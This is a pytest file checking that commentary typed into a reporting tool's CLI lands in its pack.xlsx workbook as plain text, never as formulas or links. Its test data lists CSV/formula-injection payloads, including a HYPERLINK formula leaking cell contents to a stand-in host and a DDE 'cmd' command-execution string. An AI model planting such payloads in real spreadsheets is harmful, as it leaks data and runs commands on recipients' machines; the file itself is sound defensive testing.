"""Text typed by a person never becomes a formula or a link in pack.xlsx (issue 16)."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from csc_insight.cli import main

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "http://example.invalid/phish",
)


def _edits(tmp_path: Path) -> Path:
    lines = ["period: 2021-03", "add:"]
    for text in HOSTILE:
        escaped = text.replace("'", "''")
        lines.append(f"  - {{list: do_better, text: '{escaped}'}}")
    path = tmp_path / "edits.yaml"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


@pytest.mark.parametrize("published", [False, True])
def test_formula_like_commentary_is_text_in_the_workbook(
    computed_store: Callable[[int], Path], tmp_path: Path, published: bool
) -> None:
    store = tmp_path / "copy.duckdb"
    shutil.copy(computed_store(1), store)
    runner = CliRunner()
    first = ["report", "--store", str(store), "--out", str(tmp_path / "internal")]
    r = runner.invoke(main, [*first, "--edits", str(_edits(tmp_path))])
    assert r.exit_code == 0, r.output
    # The edits are kept in the store: a later pack without --edits carries them too.
    out = tmp_path / ("published" if published else "again")
    later = ["report", "--store", str(store), "--out", str(out)]
    r = runner.invoke(main, later + (["--published"] if published else []))
    assert r.exit_code == 0, r.output
    book = openpyxl.load_workbook(out / "pack.xlsx")
    found = {text: None for text in HOSTILE}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in found:
                    found[cell.value] = cell.data_type
                assert cell.data_type != "f" or not str(cell.value).startswith(
                    ("=HYPERLINK", "=cmd", "+", "@")
                ), (ws.title, cell.coordinate, cell.value)
            for cell in row:
                assert (
                    cell.hyperlink is None
                    or cell.hyperlink.target is None
                    or ("example.invalid" not in str(cell.hyperlink.target))
                )
    assert found == dict.fromkeys(HOSTILE, "s")


def test_a_bullet_too_long_for_a_cell_is_refused(
    computed_store: Callable[[int], Path], tmp_path: Path
) -> None:
    store = tmp_path / "copy.duckdb"
    shutil.copy(computed_store(1), store)
    path = tmp_path / "edits.yaml"
    path.write_text("period: 2021-03\nadd:\n  - {list: do_better, text: " + "x" * 40_000 + "}\n")
    r = CliRunner().invoke(
        main, ["report", "--store", str(store), "--out", str(tmp_path / "p"), "--edits", str(path)]
    )
    assert r.exit_code == 2
    assert "row 3, column text: 40,000 characters is too long for a bullet" in r.output
